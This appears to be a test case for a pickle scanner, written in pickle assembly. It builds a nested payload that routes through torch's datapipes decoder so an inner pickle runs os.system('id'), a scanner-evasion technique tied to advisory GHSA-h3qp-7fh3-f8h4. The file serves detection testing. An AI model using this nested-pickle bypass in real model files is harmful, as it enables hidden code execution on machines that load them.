#! technique 44 datapipes decoder basichandlers("pickle", bytes) unpickles a nested payload
#! expect PICKLE-EXEC torch.utils.data.datapipes.utils.decoder.basichandlers
# picklescan GHSA-h3qp-7fh3-f8h4. The nested bytes pickle os.system("id").
PROTO 4
SHORT_BINUNICODE "torch.utils.data.datapipes.utils.decoder"
SHORT_BINUNICODE "basichandlers"
STACK_GLOBAL
SHORT_BINUNICODE "pickle"
SHORT_BINBYTES hex"80 04 8c 02 6f 73 8c 06 73 79 73 74 65 6d 93 8c 02 69 64 85 52 2e"
TUPLE2
REDUCE
STOP
